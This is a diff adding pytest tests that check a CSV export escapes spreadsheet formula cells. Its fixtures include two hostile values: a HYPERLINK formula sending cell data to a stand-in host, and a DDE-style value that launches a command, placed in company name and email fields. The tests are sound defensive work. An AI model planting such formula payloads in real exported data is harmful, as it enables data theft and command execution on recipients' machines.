@@ -153,6 +153,43 @@ def test_a_since_that_is_not_a_date_names_the_option():
         export.parse_since("2026-13-01")
 
 
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
+HOSTILE_EMAIL = "=cmd|'/Ccalc'!A0@example.com"
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(database):
+    saving.save("m-1", enrolment_payload(company_name=HOSTILE_NAME, company_email=HOSTILE_EMAIL))
+    [company] = exported("companies")[1:]
+    [supplier] = exported("suppliers")[1:]
+    assert company[2] == "'" + HOSTILE_NAME
+    assert supplier[2] == "'" + HOSTILE_EMAIL
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_owasp_names_is_neutralised(start):
+    assert export.neutralised(f"{start}1+1") == f"'{start}1+1"
+
+
+@pytest.mark.parametrize("text", ["Acme Ltd", "", " =1", "a=1", "'quoted", "{\"json\": 1}"])
+def test_text_that_does_not_start_like_a_formula_is_unchanged(text):
+    assert export.neutralised(text) == text
+
+
+def test_numbers_and_dates_are_never_neutralised(database):
+    saving.save("m-1", enrolment_payload())
+    Company.update(revenue=-5).execute()
+    [company] = exported("companies")[1:]
+    assert company[5] == "-5.00"
+
+
+def test_export_raw_writes_cells_as_stored(database):
+    saving.save("m-1", enrolment_payload(company_name=HOSTILE_NAME))
+    out = io.StringIO(newline="")
+    export.write_csv(export.export_rows("companies", raw=True), out)
+    [company] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
+    assert company[2] == HOSTILE_NAME
+
+
 def test_csv_chunks_stream_the_same_text_as_write_csv(database):
     for _ in range(30):
         saving.save(f"m-{_}", enrolment_payload())
